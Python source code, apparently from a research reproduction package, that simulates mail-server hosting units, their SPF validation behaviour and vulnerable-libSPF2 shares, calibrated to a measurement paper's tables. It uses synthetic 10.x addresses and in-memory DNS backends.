        msgfail=440 / 22_911,
        spf_blank=14_204 / 22_911,
    ),
    behavior_mix=BehaviorMix(
        vulnerable=0.100,
        no_expansion=0.033,
        reversed_not_truncated=0.013,
        truncated_not_reversed=0.011,
        static=0.010,
    ),
    vulnerable_ip_share=0.100,
    vulnerable_domain_share=0.060,
    large_unit_fraction=0.05,
)


@dataclass
class HostingUnit:
    """One mail operator: a software stack on one or more addresses."""

    unit_id: int
    domains: List[Domain]
    ips: List[str]
    mail_hostname: str
    category: UnitCategory
    spf_timing: SpfTiming = SpfTiming.NEVER
    behavior_name: Optional[str] = None
    second_behavior_name: Optional[str] = None
    second_timing: SpfTiming = SpfTiming.AFTER_MESSAGE
    greylists: bool = False
    blacklists_after: Optional[int] = None
    moves_at: Optional[_dt.datetime] = None
    new_ips: List[str] = field(default_factory=list)
    country: str = "United States"
    #: Whether mail to postmaster@<domain> is deliverable (the paper saw
    #: 31.6% of private notifications bounce).
    accepts_postmaster: bool = True
    #: Failure stage for SMTP_FAILURE units.
    failure_stage: FailureStage = FailureStage.NONE
    #: Transient per-session failure rate during the longitudinal phase.
    flaky_rate: float = 0.0

    @property
    def is_vulnerable(self) -> bool:
        return self.behavior_name == "vulnerable-libspf2" or (
            self.second_behavior_name == "vulnerable-libspf2"
        )

    @property
    def all_ips(self) -> List[str]:
        return self.ips + self.new_ips

    @property
    def primary_tld(self) -> str:
        return self.domains[0].tld if self.domains else "com"

    @property
    def is_large(self) -> bool:
        return len(self.domains) >= 3


class _IpAllocator:
    """Hands out unique synthetic IPv4 addresses."""

    def __init__(self) -> None:
        self._next = 0

    def next_ip(self) -> str:
        value = self._next
        self._next += 1
        if value >= 0xFFFFFF:
            raise SimulationError("synthetic IPv4 space exhausted")
        return f"10.{(value >> 16) & 0xFF}.{(value >> 8) & 0xFF}.{value & 0xFF}"


class PopulationDnsBackend(DnsBackend):
    """Answers MX and A queries for population domains.

    A dict-backed authoritative responder — one :class:`~repro.dns.zone.Zone`
    per domain would be needlessly heavy at population scale.
    """

    def __init__(self) -> None:
        self._mx: Dict[Tuple[str, ...], List[Tuple[int, Name]]] = {}
        self._a: Dict[Tuple[str, ...], List[str]] = {}

    def set_mx(self, domain: str, exchanges: List[Tuple[int, str]]) -> None:
        key = Name.from_text(domain).key
        self._mx[key] = [(pref, Name.from_text(host)) for pref, host in exchanges]

    def set_a(self, host: str, addresses: List[str]) -> None:
        self._a[Name.from_text(host).key] = list(addresses)

    def remove_domain(self, domain: str) -> None:
        self._mx.pop(Name.from_text(domain).key, None)

    def query(self, message: Message, *, source: str = "", now=None) -> Message:
        if message.question is None:
            return message.make_response(Rcode.FORMERR)
        qname, rrtype = message.question.name, message.question.rrtype
        response = message.make_response()
        response.authoritative = True
        key = qname.key
        if rrtype == RRType.MX and key in self._mx:
            for pref, host in self._mx[key]:
                response.answers.append(
                    ResourceRecord(name=qname, rdata=MX(pref, host), ttl=300)
                )
            return response
        if rrtype == RRType.A and key in self._a:
            for address in self._a[key]:
                response.answers.append(
                    ResourceRecord(name=qname, rdata=A(address), ttl=300)
                )
            return response
        if key in self._mx or key in self._a:
            return response  # NODATA
        response.rcode = Rcode.NXDOMAIN
        return response


@dataclass
class MtaFleet:
    """The generated fleet plus its lookup structures."""

    units: List[HostingUnit]
    unit_by_domain: Dict[str, HostingUnit]
    unit_by_ip: Dict[str, HostingUnit]
    dns_backend: PopulationDnsBackend

    @property
    def all_ips(self) -> List[str]:
        out: List[str] = []
        for unit in self.units:
            out.extend(unit.ips)
        return out

    def vulnerable_units(self) -> List[HostingUnit]:
        return [u for u in self.units if u.is_vulnerable]

    def vulnerable_domains(self) -> List[Domain]:
        out: List[Domain] = []
        for unit in self.vulnerable_units():
            out.extend(unit.domains)
        return out

    def schedule_moves(self, network: Network, clock) -> int:
        """Schedule mid-campaign MX migrations.

        At ``unit.moves_at``, the unit's old addresses stop accepting
        connections, its new addresses come alive with the same software,
        and the unit's MX hostname re-points to the new addresses — so a
        measurement that froze its IP list at the start loses the unit,
        while a final snapshot that re-resolves MX records finds it again
        (the paper's Section 7.2 snapshot behavior).

        Returns the number of scheduled moves.
        """
        scheduled = 0
        for unit in self.units:
            if unit.moves_at is None or not unit.new_ips:
                continue

            def do_move(_when: _dt.datetime, unit=unit) -> None:
                for ip in unit.ips:
                    server = network.server_at(ip)
                    if server is not None:
                        server.policy.refuse_connections = True
                for ip in unit.new_ips:
                    server = network.server_at(ip)
                    if server is not None:
                        server.policy.refuse_connections = False
                self.dns_backend.set_a(unit.mail_hostname, unit.new_ips)

            clock.schedule(unit.moves_at, do_move)
            scheduled += 1
        return scheduled

    def build_network(
        self,
        clock_fn: Callable[[], _dt.datetime],
        resolver_backend: DnsBackend,
        *,
        ip_filter: Optional[Callable[[str], bool]] = None,
    ) -> Network:
        """Materialize every unit as live SMTP servers.

        ``resolver_backend`` is the DNS path the servers' SPF validators
        query (it must include the measurement responder's zone).
        ``ip_filter`` restricts the build to the addresses it accepts —
        a shard-world replica materializes only the servers its shard
        owns, and the patch/move callbacks' ``server_at`` lookups already
        tolerate the holes.
        """
        network = Network(clock=clock_fn)
        for unit in self.units:
            for ip in unit.all_ips:
                if ip_filter is not None and not ip_filter(ip):
                    continue
                network.register(self._build_server(unit, ip, clock_fn, resolver_backend))
        return network

    def _build_server(
        self,
        unit: HostingUnit,
        ip: str,
        clock_fn: Callable[[], _dt.datetime],
        resolver_backend: DnsBackend,
    ) -> SmtpServer:
        policy = ServerPolicy(
            refuse_connections=unit.category == UnitCategory.REFUSE
            or ip in unit.new_ips,  # new addresses come alive at move time
            failure_stage=unit.failure_stage,
            spf_timing=unit.spf_timing,
            greylist=GreylistPolicy(enabled=unit.greylists, retry_after_seconds=300),
            recipients=RecipientPolicy(accept_any=True),
            blacklists_after_probes=unit.blacklists_after,
            flaky_rate=unit.flaky_rate,
        )
        stacks: List[SpfStack] = []
        if unit.behavior_name is not None:
            stacks.append(SpfStack.named(unit.behavior_name, unit.spf_timing))
        if unit.second_behavior_name is not None:
            stacks.append(SpfStack.named(unit.second_behavior_name, unit.second_timing))
        resolver = StubResolver(resolver_backend, identity=ip, clock=clock_fn)
        return SmtpServer(
            ip,
            hostname=unit.mail_hostname,
            policy=policy,
            spf_stacks=stacks,
            resolver=resolver,
        )


# --------------------------------------------------------------------------
# generation
# --------------------------------------------------------------------------


def _sample_small_size(rng: SeededRng) -> int:
    return 1 if rng.bernoulli(0.7) else 2


def _sample_large_size(rng: SeededRng) -> int:
    roll = rng.uniform(0.0, 1.0)
    if roll < 0.70:
        return rng.randint(3, 8)
    if roll < 0.95:
        return rng.randint(9, 40)
    return rng.randint(50, 400)


def _solve_class_probs(
    ip_targets: Dict[UnitCategory, float],
    domain_targets: Dict[UnitCategory, float],
    unit_share_small: float,
    domain_share_small: float,
) -> Tuple[Dict[UnitCategory, float], Dict[UnitCategory, float]]:
    """Per-class bucket probabilities hitting both target vectors.

    Solves, per bucket, the 2x2 system::

        u_s * p_s + u_l * p_l = ip_target
        d_s * p_s + d_l * p_l = domain_target

    then clamps to [0, 1] and renormalizes each class vector.
    """
    u_s, u_l = unit_share_small, 1.0 - unit_share_small
    d_s, d_l = domain_share_small, 1.0 - domain_share_small
    det = u_s * d_l - u_l * d_s
    if abs(det) < 1e-9:
        return dict(ip_targets), dict(ip_targets)
    small: Dict[UnitCategory, float] = {}
    large: Dict[UnitCategory, float] = {}
    for category in _CATEGORIES:
        ip_t = ip_targets[category]
        dom_t = domain_targets[category]
        small[category] = max(0.0, (d_l * ip_t - u_l * dom_t) / det)
        large[category] = max(0.0, (u_s * dom_t - d_s * ip_t) / det)
    for probs in (small, large):
        total = sum(probs.values())
        if total <= 0:
            raise SimulationError("degenerate class probabilities")
        for category in probs:
            probs[category] /= total
    return small, large


#: Units hosting more than this many domains never run vulnerable libSPF2:
#: the paper's vulnerable-host profile (18,660 domains on 7,212 addresses,
#: ~2.6 domains each) shows mega-hosts ran maintained software.
VULNERABLE_ELIGIBILITY_MAX_DOMAINS = 40


def _solve_vulnerable_rates(
    profile: FleetProfile,
    measured_units: List[HostingUnit],
) -> Tuple[float, float]:
    """Per-class vulnerable probabilities among measured units.

    Hits the paper's address-level (17%) *and* domain-level (8.7%)
    vulnerable shares simultaneously: big measured hosts run maintained
    software, so vulnerability skews toward small operators.  Mega-units
    (past the eligibility cap) contribute to the denominators but can
    never be vulnerable, so the targets are rescaled onto the eligible
    subset before solving.
    """
    eligible = [
        u for u in measured_units
        if len(u.domains) <= VULNERABLE_ELIGIBILITY_MAX_DOMAINS
    ]
    if not eligible:
        return 0.0, 0.0
    total_units = len(measured_units)
    total_domains = max(1, sum(len(u.domains) for u in measured_units))
    eligible_units = len(eligible)
    eligible_domains = max(1, sum(len(u.domains) for u in eligible))

    # All vulnerable units/domains must come from the eligible subset.
    ip_target = min(
        0.95, profile.vulnerable_ip_share * total_units / eligible_units
    )
    domain_target = min(
        0.95, profile.vulnerable_domain_share * total_domains / eligible_domains
    )

    small_units = sum(1 for u in eligible if not u.is_large)
    large_units = eligible_units - small_units
    small_domains = sum(len(u.domains) for u in eligible if not u.is_large)
    large_domains = eligible_domains - small_domains
    u_s, u_l = small_units / eligible_units, large_units / eligible_units
    d_s, d_l = small_domains / eligible_domains, large_domains / eligible_domains
    det = u_s * d_l - u_l * d_s
    if abs(det) < 1e-9:
        return ip_target, ip_target
    v_small = (d_l * ip_target - u_l * domain_target) / det
    v_large = (u_s * domain_target - d_s * ip_target) / det
    clamp = lambda v: min(0.9, max(0.0, v))
    return clamp(v_small), clamp(v_large)


_NOMSG_FAILURE_STAGES = (
    (FailureStage.BANNER, 0.30),
    (FailureStage.HELO, 0.10),
    (FailureStage.MAIL_FROM, 0.25),
    (FailureStage.RCPT_TO, 0.20),
    (FailureStage.DATA, 0.15),
)

_ERRONEOUS_SECOND = (
    ("rfc-compliant", 0.80),
    ("no-expansion", 0.10),
    ("truncated-not-reversed", 0.05),
    ("reversed-not-truncated", 0.05),
)


def _configure_unit(
    unit: HostingUnit,
    category: UnitCategory,
    profile: FleetProfile,
    vulnerable_rate: float,
    rng: SeededRng,
    campaign_start: _dt.datetime,
) -> None:
    """Fill in a unit's SMTP/SPF configuration for its assigned bucket."""
    unit.category = category
    if category == UnitCategory.REFUSE:
        return
    unit.accepts_postmaster = rng.bernoulli(0.684)  # 1 - the 31.6% bounce rate
    if category == UnitCategory.SMTP_FAILURE:
        unit.failure_stage = rng.categorical(_NOMSG_FAILURE_STAGES)
        return
    if category == UnitCategory.MESSAGE_FAILURE:
        unit.failure_stage = FailureStage.MESSAGE
        return

    if category == UnitCategory.SPF_NOMSG:
        unit.spf_timing = rng.categorical(
            [(SpfTiming.ON_MAIL_FROM, 0.8), (SpfTiming.ON_DATA_COMMAND, 0.2)]
        )
    elif category == UnitCategory.SPF_BLANKMSG:
        unit.spf_timing = SpfTiming.AFTER_MESSAGE
    else:  # NO_SPF
        unit.greylists = rng.bernoulli(profile.greylist)
        return

    unit.behavior_name = profile.behavior_mix.sample(rng, vulnerable=vulnerable_rate)
    if rng.bernoulli(profile.multi_stack):
        # A second SPF consumer in the mail path (spam filter, second
        # hop) with a *distinct* implementation, validating at the same
        # point so the probe observes both expansion patterns (§7.9).
        second = rng.categorical(_ERRONEOUS_SECOND)
        if second == unit.behavior_name:
            second = (
                "no-expansion"
                if unit.behavior_name != "no-expansion"
                else "truncated-not-reversed"
            )
        unit.second_behavior_name = second
        unit.second_timing = unit.spf_timing
    unit.greylists = rng.bernoulli(profile.greylist)
    if rng.bernoulli(profile.flaky):
        unit.flaky_rate = profile.flaky_rate

    # High-profile infrastructure (the Alexa Top 1000) filtered the
    # prober aggressively and moved addresses during the study — the
    # paper lost conclusive results for many top-1000 domains around
    # mid-November and only the re-resolving snapshot settled them.
    high_profile = any(d.in_set(DomainSet.ALEXA_1000) for d in unit.domains)
    blacklist_p = 0.5 if high_profile else profile.blacklist
    if unit.is_large and not high_profile:
        # Big shared hosts rate-limit rather than hard-block: persistent
        # blacklisting concentrates in small self-hosted servers (keeps
        # the snapshot's unknown share domain-weighted like the paper's).
        blacklist_p *= 0.25
    move_p = 0.4 if high_profile else profile.move
    if rng.bernoulli(blacklist_p):
        unit.blacklists_after = rng.randint(3, 14)
    if rng.bernoulli(move_p):
        unit.moves_at = campaign_start + _dt.timedelta(days=rng.randint(10, 100))


def build_fleet(
    population: DomainPopulation,
    *,
    seed: Optional[int] = None,
    campaign_start: Optional[_dt.datetime] = None,
    alexa_profile: FleetProfile = ALEXA_PROFILE,
    two_week_profile: FleetProfile = TWO_WEEK_PROFILE,
) -> MtaFleet:
    """Group the population into hosting units and configure each one."""
    from ..clock import INITIAL_MEASUREMENT

    campaign_start = campaign_start or INITIAL_MEASUREMENT
    rng = SeededRng(seed if seed is not None else population.config.seed).fork("fleet")
    allocator = _IpAllocator()
    backend = PopulationDnsBackend()

    units: List[HostingUnit] = []
    unit_by_domain: Dict[str, HostingUnit] = {}
    unit_by_ip: Dict[str, HostingUnit] = {}

    providers = [d for d in population.domains if d.in_set(DomainSet.TOP_EMAIL_PROVIDERS)]
    alexa_only = [
        d
        for d in population.domains
        if d.in_set(DomainSet.ALEXA_TOP_LIST) and not d.in_set(DomainSet.TOP_EMAIL_PROVIDERS)
    ]
    two_week_only = [
        d
        for d in population.domains
        if d.in_set(DomainSet.TWO_WEEK_MX) and not d.in_set(DomainSet.ALEXA_TOP_LIST)
    ]

    def new_unit(domains: List[Domain], ip_count: int) -> HostingUnit:
        unit = HostingUnit(
            unit_id=len(units),
            domains=domains,
            ips=[allocator.next_ip() for _ in range(ip_count)],
            mail_hostname=f"mx.{domains[0].name}" if domains else "mx.invalid",
            category=UnitCategory.NO_SPF,
        )
        units.append(unit)
        for domain in domains:
            unit_by_domain[domain.name] = unit
        return unit

    # --- top email providers: one well-provisioned unit each --------------
    for domain in providers:
        unit = new_unit([domain], ip_count=rng.randint(2, 5))
        _configure_provider_unit(unit, domain, rng)

    # --- bulk sets ----------------------------------------------------------
    for pool, profile in ((alexa_only, alexa_profile), (two_week_only, two_week_profile)):
        _build_set_units(pool, profile, rng, new_unit, campaign_start)

    # Movers get their future addresses allocated up front.
    for unit in units:
        if unit.moves_at is not None and not unit.new_ips:
            unit.new_ips = [allocator.next_ip() for _ in unit.ips]

    # --- DNS data -------------------------------------------------------------
    for unit in units:
        for domain in unit.domains:
            backend.set_mx(domain.name, [(10, unit.mail_hostname)])
        backend.set_a(unit.mail_hostname, unit.ips)

    for unit in units:
        for ip in unit.all_ips:
            unit_by_ip[ip] = unit

    return MtaFleet(
        units=units,
        unit_by_domain=unit_by_domain,
        unit_by_ip=unit_by_ip,
        dns_backend=backend,
    )


def _build_set_units(
    pool: List[Domain],
    profile: FleetProfile,
    rng: SeededRng,
    new_unit: Callable[[List[Domain], int], HostingUnit],
    campaign_start: _dt.datetime,
) -> None:
    """Create and configure all hosting units for one domain set."""
    rng.shuffle(pool)
    set_units: List[HostingUnit] = []
    index = 0
    while index < len(pool):
        large = rng.bernoulli(profile.large_unit_fraction)
        size = _sample_large_size(rng) if large else _sample_small_size(rng)
        size = min(size, len(pool) - index)
        domains = pool[index : index + size]
        index += size
        ip_count = 1 + (1 if rng.bernoulli(0.10) else 0)
        set_units.append(new_unit(domains, ip_count))

    if not set_units:
        return
    small_units = sum(1 for u in set_units if not u.is_large)
    small_domains = sum(len(u.domains) for u in set_units if not u.is_large)
    total_domains = sum(len(u.domains) for u in set_units)
    small_probs, large_probs = _solve_class_probs(
        profile.ip_targets,
        profile.domain_targets,
        unit_share_small=small_units / len(set_units),
        domain_share_small=small_domains / max(1, total_domains),
    )

    # Assign buckets, then solve vulnerable rates over the measured units.
    assignments: List[Tuple[HostingUnit, UnitCategory]] = []
    for unit in set_units:
        probs = small_probs if not unit.is_large else large_probs
        assignments.append((unit, rng.weighted_choice(probs)))

    measured = [u for u, c in assignments if c.validates_spf]
    v_small, v_large = _solve_vulnerable_rates(profile, measured)
    for unit, category in assignments:
        if len(unit.domains) > VULNERABLE_ELIGIBILITY_MAX_DOMAINS:
            rate = 0.0
        else:
            rate = v_large if unit.is_large else v_small
        _configure_unit(unit, category, profile, rate, rng, campaign_start)


def _configure_provider_unit(unit: HostingUnit, domain: Domain, rng: SeededRng) -> None:
    """Top email providers: never refuse; mostly measurable (Table 3)."""
    from ..clock import INITIAL_MEASUREMENT

    unit.accepts_postmaster = True
    if domain.name in VULNERABLE_PROVIDER_DOMAINS:
        unit.category = UnitCategory.SPF_BLANKMSG
        unit.spf_timing = SpfTiming.AFTER_MESSAGE
        unit.behavior_name = "vulnerable-libspf2"
        # Big providers filter repeat probing and shuffle frontends; the
        # paper lost longitudinal results for them and settled their
        # status only in the re-resolving snapshot (Section 7.5).
        unit.blacklists_after = rng.randint(6, 18)
        unit.moves_at = INITIAL_MEASUREMENT + _dt.timedelta(days=rng.randint(25, 60))
        return
    bucket = rng.categorical(
        [
            (UnitCategory.SPF_NOMSG, 0.25),
            (UnitCategory.SPF_BLANKMSG, 0.40),
            (UnitCategory.SMTP_FAILURE, 0.10),
            (UnitCategory.MESSAGE_FAILURE, 0.20),
            (UnitCategory.NO_SPF, 0.05),
        ]
    )
    unit.category = bucket
    if bucket == UnitCategory.SMTP_FAILURE:
        unit.failure_stage = FailureStage.RCPT_TO
    elif bucket == UnitCategory.MESSAGE_FAILURE:
        unit.failure_stage = FailureStage.MESSAGE
    elif bucket == UnitCategory.SPF_NOMSG:
        unit.spf_timing = SpfTiming.ON_MAIL_FROM
        unit.behavior_name = "rfc-compliant"
    elif bucket == UnitCategory.SPF_BLANKMSG:
        unit.spf_timing = SpfTiming.AFTER_MESSAGE
        unit.behavior_name = "rfc-compliant"
