"""The mail-server fleet behind the domain population.

Domains are grouped into **hosting units** — one mail operator running one
software stack on one or more IP addresses.  Units come in two size
classes: *small* (1-2 domains, self-hosted) and *large* (3 to hundreds of
domains, shared hosting).  This size structure is what lets the model
reproduce the paper's consistent divergence between address-level and
domain-level rates: 47% of Alexa addresses refused connections but only
26% of domains did (parked singletons refuse); 23% of addresses were SPF-
measurable but 48% of domains were (shared hosts validate); 17% of
measured addresses were vulnerable but only 8.7% of measured domains were
(the biggest hosts run maintained software).

Per-class outcome probabilities are *solved from class counts* — the
lazily computed fleet census — against the paper's Table 3 address-level
and domain-level targets, so the calibration holds at any scale without
instantiating a single unit.

Like the population, the fleet is **lazy**: :func:`build_fleet` returns
in O(1).  Unit boundaries are drawn in fixed-size chunks of domain-pool
positions (a per-chunk RNG fork), every unit's category/behavior/policy
draws come from a per-unit RNG fork (label ``unit-{unit_id}``), and IP
addresses are an arithmetic codec over reserved *slots* — so any single
:class:`HostingUnit`, :class:`~repro.smtp.server.SmtpServer`, or DNS
answer can be materialized on first touch (a probe, a notification, a
snapshot restore) and regenerates identically every time.  Holding a
fleet costs O(touched), not O(world).
"""

from __future__ import annotations

import bisect
import datetime as _dt
import enum
import math
import weakref
from collections import OrderedDict
from dataclasses import dataclass, field
from typing import Callable, Dict, Iterator, List, Optional, Tuple

from ..dns.message import Message, Rcode
from ..dns.name import Name
from ..dns.rdata import A, MX, RRType, ResourceRecord
from ..dns.resolver import StubResolver
from ..dns.server import DnsBackend
from ..errors import SimulationError
from ..smtp.policies import (
    FailureStage,
    GreylistPolicy,
    RecipientPolicy,
    ServerPolicy,
    SpfTiming,
)
from ..smtp.server import SmtpServer, SpfStack
from ..smtp.transport import Network
from .population import (
    Domain,
    DomainPopulation,
    DomainSet,
    VULNERABLE_PROVIDER_DOMAINS,
)
from .rng import SeededRng
from .tld import GENERIC_TLD_COUNTRY_MIX, TldModel


class UnitCategory(enum.Enum):
    """Which Table 3 outcome bucket a unit's servers land in."""

    REFUSE = "refuse"  # no TCP connection
    SMTP_FAILURE = "smtp-failure"  # fails the NoMsg dialogue, no SPF
    SPF_NOMSG = "spf-nomsg"  # SPF measurable from the NoMsg probe
    MESSAGE_FAILURE = "message-failure"  # fails only at end-of-data
    SPF_BLANKMSG = "spf-blankmsg"  # SPF measurable only from BlankMsg
    NO_SPF = "no-spf"  # accepts mail, never validates SPF

    @property
    def validates_spf(self) -> bool:
        return self in (UnitCategory.SPF_NOMSG, UnitCategory.SPF_BLANKMSG)


_CATEGORIES: Tuple[UnitCategory, ...] = (
    UnitCategory.REFUSE,
    UnitCategory.SMTP_FAILURE,
    UnitCategory.SPF_NOMSG,
    UnitCategory.MESSAGE_FAILURE,
    UnitCategory.SPF_BLANKMSG,
    UnitCategory.NO_SPF,
)


@dataclass(frozen=True)
class BehaviorMix:
    """SPF behavior probabilities among SPF-validating units.

    The remainder after the listed probabilities is RFC-compliant.
    ``vulnerable`` may be overridden per size class (see
    :func:`_solve_vulnerable_rates`).
    """

    vulnerable: float
    no_expansion: float
    reversed_not_truncated: float
    truncated_not_reversed: float
    static: float

    def sample(self, rng: SeededRng, *, vulnerable: Optional[float] = None) -> str:
        v = self.vulnerable if vulnerable is None else vulnerable
        compliant = 1.0 - (
            v
            + self.no_expansion
            + self.reversed_not_truncated
            + self.truncated_not_reversed
            + self.static
        )
        if compliant < 0:
            raise SimulationError("behavior mix probabilities exceed 1")
        return rng.categorical(
            [
                ("vulnerable-libspf2", v),
                ("no-expansion", self.no_expansion),
                ("reversed-not-truncated", self.reversed_not_truncated),
                ("truncated-not-reversed", self.truncated_not_reversed),
                ("static-expansion", self.static),
                ("rfc-compliant", compliant),
            ]
        )


def _targets(
    refuse: float, fail: float, spf_nomsg: float, msgfail: float, spf_blank: float
) -> Dict[UnitCategory, float]:
    """Unconditional six-bucket probabilities (NO_SPF is the remainder)."""
    values = {
        UnitCategory.REFUSE: refuse,
        UnitCategory.SMTP_FAILURE: fail,
        UnitCategory.SPF_NOMSG: spf_nomsg,
        UnitCategory.MESSAGE_FAILURE: msgfail,
        UnitCategory.SPF_BLANKMSG: spf_blank,
    }
    remainder = 1.0 - sum(values.values())
    if remainder < -1e-9:
        raise SimulationError("bucket targets exceed 1")
    values[UnitCategory.NO_SPF] = max(0.0, remainder)
    return values


@dataclass(frozen=True)
class FleetProfile:
    """Per-domain-set calibration (paper Table 3 and Table 4)."""

    #: Address-level unconditional bucket probabilities.
    ip_targets: Dict[UnitCategory, float]
    #: Domain-level unconditional bucket probabilities.
    domain_targets: Dict[UnitCategory, float]
    behavior_mix: BehaviorMix
    #: Vulnerable share among measured addresses / measured domains.
    vulnerable_ip_share: float
    vulnerable_domain_share: float
    #: Fraction of hosting units that are large (3+ domains).
    large_unit_fraction: float
    #: P(greylisting) among connecting units.
    greylist: float = 0.05
    #: P(a second, different SPF stack) among validating units (§7.9: 6%
    #: of measurable IPs showed multiple expansion patterns).
    multi_stack: float = 0.06
    #: P(unit starts rejecting the prober during the longitudinal phase).
    blacklist: float = 0.12
    #: P(unit migrates to new addresses mid-campaign).
    move: float = 0.03
    #: P(unit is flaky) and its per-session transient failure rate —
    #: the noise behind Figure 5's fluctuating conclusiveness.
    flaky: float = 0.20
    flaky_rate: float = 0.25


#: Alexa Top List: 174,679 addresses / 418,840 domains (Table 3 columns).
ALEXA_PROFILE = FleetProfile(
    ip_targets=_targets(
        refuse=81_515 / 174_679,
        fail=34_167 / 174_679,
        spf_nomsg=12_528 / 174_679,
        msgfail=2_209 / 174_679,
        spf_blank=27_139 / 174_679,
    ),
    domain_targets=_targets(
        refuse=109_559 / 418_840,
        fail=62_466 / 418_840,
        spf_nomsg=48_205 / 418_840,
        msgfail=6_512 / 418_840,
        spf_blank=151_753 / 418_840,
    ),
    behavior_mix=BehaviorMix(
        vulnerable=0.171,
        no_expansion=0.030,
        reversed_not_truncated=0.012,
        truncated_not_reversed=0.009,
        static=0.009,
    ),
    vulnerable_ip_share=0.173,
    vulnerable_domain_share=0.087,
    large_unit_fraction=0.09,
)

#: 2-Week MX: 11,203 addresses / 22,911 domains.
TWO_WEEK_PROFILE = FleetProfile(
    ip_targets=_targets(
        refuse=2_773 / 11_203,
        fail=2_032 / 11_203,
        spf_nomsg=1_953 / 11_203,
        msgfail=352 / 11_203,
        spf_blank=2_337 / 11_203,
    ),
    domain_targets=_targets(
        refuse=2_281 / 22_911,
        fail=1_187 / 22_911,
        spf_nomsg=2_399 / 22_911,
        msgfail=440 / 22_911,
        spf_blank=14_204 / 22_911,
    ),
    behavior_mix=BehaviorMix(
        vulnerable=0.100,
        no_expansion=0.033,
        reversed_not_truncated=0.013,
        truncated_not_reversed=0.011,
        static=0.010,
    ),
    vulnerable_ip_share=0.100,
    vulnerable_domain_share=0.060,
    large_unit_fraction=0.05,
)


@dataclass
class HostingUnit:
    """One mail operator: a software stack on one or more addresses."""

    unit_id: int
    domains: List[Domain]
    ips: List[str]
    mail_hostname: str
    category: UnitCategory
    spf_timing: SpfTiming = SpfTiming.NEVER
    behavior_name: Optional[str] = None
    second_behavior_name: Optional[str] = None
    second_timing: SpfTiming = SpfTiming.AFTER_MESSAGE
    greylists: bool = False
    blacklists_after: Optional[int] = None
    moves_at: Optional[_dt.datetime] = None
    new_ips: List[str] = field(default_factory=list)
    country: str = "United States"
    #: Whether mail to postmaster@<domain> is deliverable (the paper saw
    #: 31.6% of private notifications bounce).
    accepts_postmaster: bool = True
    #: Failure stage for SMTP_FAILURE units.
    failure_stage: FailureStage = FailureStage.NONE
    #: Transient per-session failure rate during the longitudinal phase.
    flaky_rate: float = 0.0

    @property
    def is_vulnerable(self) -> bool:
        return self.behavior_name == "vulnerable-libspf2" or (
            self.second_behavior_name == "vulnerable-libspf2"
        )

    @property
    def all_ips(self) -> List[str]:
        return self.ips + self.new_ips

    @property
    def primary_tld(self) -> str:
        return self.domains[0].tld if self.domains else "com"

    @property
    def is_large(self) -> bool:
        return len(self.domains) >= 3


# --------------------------------------------------------------------------
# synthetic address space
# --------------------------------------------------------------------------

#: The 10.0.0.0/8 codec covers 2^24 slots.
_SLOT_LIMIT = 1 << 24


def _encode_slot(slot: int) -> str:
    """Slot number → synthetic 10.x.y.z address."""
    if not 0 <= slot < _SLOT_LIMIT:
        raise SimulationError("synthetic IPv4 space exhausted")
    return f"10.{(slot >> 16) & 0xFF}.{(slot >> 8) & 0xFF}.{slot & 0xFF}"


def _decode_slot(ip: str) -> Optional[int]:
    """Synthetic address → slot number, or ``None`` for foreign input.

    Only the canonical spelling decodes — re-encoding must reproduce the
    input exactly, so padded octets ("10.00.0.1") are rejected rather
    than aliased onto a real slot.
    """
    parts = ip.split(".")
    if len(parts) != 4 or parts[0] != "10":
        return None
    try:
        octets = [int(part) for part in parts[1:]]
    except ValueError:
        return None
    if any(not 0 <= octet <= 255 for octet in octets):
        return None
    slot = (octets[0] << 16) | (octets[1] << 8) | octets[2]
    if _encode_slot(slot) != ip:
        return None
    return slot


class PopulationDnsBackend(DnsBackend):
    """Answers MX and A queries from explicitly installed records.

    A dict-backed authoritative responder, kept for tests and tools that
    wire up small scenarios by hand (``set_mx``/``set_a``).  The fleet
    itself answers through :class:`FleetDnsBackend`, which derives
    records from the lazy world instead of storing them.
    """

    def __init__(self) -> None:
        self._mx: Dict[Tuple[str, ...], List[Tuple[int, Name]]] = {}
        self._a: Dict[Tuple[str, ...], List[str]] = {}

    def set_mx(self, domain: str, exchanges: List[Tuple[int, str]]) -> None:
        key = Name.from_text(domain).key
        self._mx[key] = [(pref, Name.from_text(host)) for pref, host in exchanges]

    def set_a(self, host: str, addresses: List[str]) -> None:
        self._a[Name.from_text(host).key] = list(addresses)

    def remove_domain(self, domain: str) -> None:
        self._mx.pop(Name.from_text(domain).key, None)

    def query(self, message: Message, *, source: str = "", now=None) -> Message:
        if message.question is None:
            return message.make_response(Rcode.FORMERR)
        qname, rrtype = message.question.name, message.question.rrtype
        response = message.make_response()
        response.authoritative = True
        key = qname.key
        if rrtype == RRType.MX and key in self._mx:
            for pref, host in self._mx[key]:
                response.answers.append(
                    ResourceRecord(name=qname, rdata=MX(pref, host), ttl=300)
                )
            return response
        if rrtype == RRType.A and key in self._a:
            for address in self._a[key]:
                response.answers.append(
                    ResourceRecord(name=qname, rdata=A(address), ttl=300)
                )
            return response
        if key in self._mx or key in self._a:
            return response  # NODATA
        response.rcode = Rcode.NXDOMAIN
        return response


def _unit_moved(unit: HostingUnit, now: Optional[_dt.datetime]) -> bool:
    """Whether a mover's migration is in effect at ``now``."""
    return (
        unit.moves_at is not None
        and bool(unit.new_ips)
        and now is not None
        and now >= unit.moves_at
    )


class FleetDnsBackend(DnsBackend):
    """Authoritative MX/A answers derived from the lazy fleet.

    Nothing is stored: a query materializes (at most) the one hosting
    unit that owns the name and answers from its current state.  Moves
    are a function of the query time — ``now >= unit.moves_at`` flips the
    MX host's A record to the new addresses — so shard replicas and
    snapshot restores answer identically without replaying mutations.
    """

    def __init__(self, fleet: "MtaFleet") -> None:
        self._fleet = fleet
        #: answers served (read-only telemetry; see ``MtaFleet.perf_counters``).
        self.query_count = 0

    def query(self, message: Message, *, source: str = "", now=None) -> Message:
        self.query_count += 1
        if message.question is None:
            return message.make_response(Rcode.FORMERR)
        qname, rrtype = message.question.name, message.question.rrtype
        response = message.make_response()
        response.authoritative = True
        text = str(qname).lower().rstrip(".")
        if text.startswith("mx."):
            unit = self._fleet.unit_by_domain.get(text[3:])
            if unit is not None and unit.mail_hostname == text:
                if rrtype == RRType.A:
                    addresses = unit.new_ips if _unit_moved(unit, now) else unit.ips
                    for address in addresses:
                        response.answers.append(
                            ResourceRecord(name=qname, rdata=A(address), ttl=300)
                        )
                return response  # NODATA for other types on a live host
        else:
            unit = self._fleet.unit_by_domain.get(text)
            if unit is not None:
                if rrtype == RRType.MX:
                    response.answers.append(
                        ResourceRecord(
                            name=qname,
                            rdata=MX(10, Name.from_text(unit.mail_hostname)),
                            ttl=300,
